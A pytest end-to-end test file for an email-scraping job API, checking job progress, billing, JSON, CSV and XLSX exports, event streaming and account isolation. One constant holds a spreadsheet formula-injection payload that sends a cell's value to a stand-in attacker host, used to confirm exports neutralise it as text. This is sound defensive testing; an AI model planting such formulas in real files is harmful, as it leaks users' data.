"""The job API end to end: jobs created over HTTP run on a real scrapyd against the farm."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from tests.api.conftest import wait_until_final
from tests.farm.evaluate import load_truth
from tests.farm.server import SITES

TRUTH = load_truth(SITES)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'  # an upstream scraper's cell
FARM_SITES = [
    "boulangerie-martin.fr",
    "plomberie-durand.fr",
    "www.kanzlei-hartmann-heidelberg.de",
    "serveur-en-panne.fr",
    "comptoir-des-ducs-dijon.fr",  # only in the sitemap: normal mode finds nothing
]
ITEMS = [TRUTH[host]["poi"] for host in FARM_SITES] + [
    {"nom": "Sans site", "ville": "Lyon", "note": HOSTILE},
    {**TRUTH["boulangerie-martin.fr"]["poi"], "nom": "Martin (dépôt)"},
]


@pytest.fixture(scope="module")
def emails_job(app, farm):
    client = app.test_client()
    with app.app_context():
        from api.auth import create_account

        headers = {"Authorization": f"Bearer {create_account('emails-e2e', None)}"}
    created = client.post("/api/jobs/emails", json={"items": ITEMS}, headers=headers)
    assert created.status_code == 201, created.get_json()
    job = created.get_json()
    return client, headers, job, wait_until_final(client, job["id"], headers)


def test_a_job_is_created_pending_with_its_estimate(emails_job):
    _, _, created, _ = emails_job
    assert created["status"] == "pending"
    assert created["job_type"] == "emails"
    assert created["mode"] == "normal"
    assert created["items_count"] == len(ITEMS)
    assert created["sites_total"] == len(FARM_SITES)
    assert created["ef_cost"] == pytest.approx(0.001 * (len(ITEMS) - 1))


def test_the_job_runs_to_done_with_its_progress_and_summary(emails_job):
    _, _, _, job = emails_job
    assert job["status"] == "done", job
    assert (job["sites_done"], job["sites_total"]) == (len(FARM_SITES), len(FARM_SITES))
    assert job["item_statuses"] == {
        "ok": 3,  # martin twice, hartmann
        "no_candidate": 2,  # durand (no address), comptoir (only in its sitemap)
        "http_error": 1,
        "no_website": 1,
    }
    assert job["found"] == 3
    assert job["ef_cost_billed"] == pytest.approx(0.003)  # billed on found
    assert job["started_at"]
    assert job["finished_at"]


def test_json_results_keep_the_poi_columns_first_and_untouched(emails_job):
    client, headers, job, _ = emails_job
    rows = client.get(f"/api/jobs/{job['id']}/results", headers=headers).get_json()
    assert len(rows) == len(ITEMS)
    for item, row in zip(ITEMS, rows, strict=True):
        assert list(row)[: len(item)] == list(item)
        assert {k: row[k] for k in item} == item
    by_name = {row["nom"]: row for row in rows}
    for host in ("boulangerie-martin.fr", "plomberie-durand.fr"):
        row = by_name[TRUTH[host]["poi"]["nom"]]
        assert (row["email"], row["email_personal"]) == (
            TRUTH[host]["email"],
            TRUTH[host]["email_personal"],
        )
    assert by_name["Martin (dépôt)"]["email"] == TRUTH["boulangerie-martin.fr"]["email"]


def test_csv_results_open_in_excel(emails_job):
    client, headers, job, _ = emails_job
    answer = client.get(
        f"/api/jobs/{job['id']}/results?format=csv&sep=;", headers=headers
    )
    text = answer.get_data(as_text=True)
    assert text.startswith("\ufeff")  # UTF-8 with BOM
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert len(rows) == len(ITEMS)
    assert rows[0]["nom"] == ITEMS[0]["nom"]
    assert rows[5]["email"] == ""  # no website: empty, not "None"
    assert rows[5]["note"] == "'" + HOSTILE  # text, never a formula (OWASP)
    assert "attachment" in answer.headers["Content-Disposition"]


def test_xlsx_results(emails_job):
    client, headers, job, _ = emails_job
    answer = client.get(f"/api/jobs/{job['id']}/results?format=xlsx", headers=headers)
    sheet = load_workbook(io.BytesIO(answer.data)).active
    values = list(sheet.values)
    assert values[0][:3] == ("nom", "ville", "site_web")
    assert len(values) == len(ITEMS) + 1
    note = sheet.cell(row=7, column=values[0].index("note") + 1)
    assert (note.value, note.data_type, note.quotePrefix) == (HOSTILE, "s", True)


def test_the_event_stream_ends_with_done(emails_job):
    client, headers, job, _ = emails_job
    text = client.get(f"/api/jobs/{job['id']}/events", headers=headers).get_data(
        as_text=True
    )
    events = [block for block in text.split("\n\n") if block.startswith("id:")]
    kinds = [block.split("\n")[1].removeprefix("event: ") for block in events]
    assert kinds[-1] == "done"
    assert kinds.count("progress") == len(FARM_SITES)
    last = json.loads(events[-1].split("\ndata: ")[1])
    assert last["sites_done"] == len(FARM_SITES)
    # a client reconnecting after the second event gets the rest, without gaps
    second = int(events[1].split("\n")[0].removeprefix("id: "))
    resumed = client.get(
        f"/api/jobs/{job['id']}/events",
        headers={**headers, "Last-Event-ID": str(second)},
    ).get_data(as_text=True)
    assert resumed.count("id: ") == len(events) - 2


def test_jobs_are_listed_newest_first_for_their_account_only(
    emails_job, client, account
):
    own_client, headers, job, _ = emails_job
    listed = own_client.get("/api/jobs?job_type=emails", headers=headers).get_json()
    assert [j["id"] for j in listed["jobs"]] == [job["id"]]
    assert client.get("/api/jobs", headers=account).get_json()["total"] == 0
    assert client.get(f"/api/jobs/{job['id']}", headers=account).status_code == 404
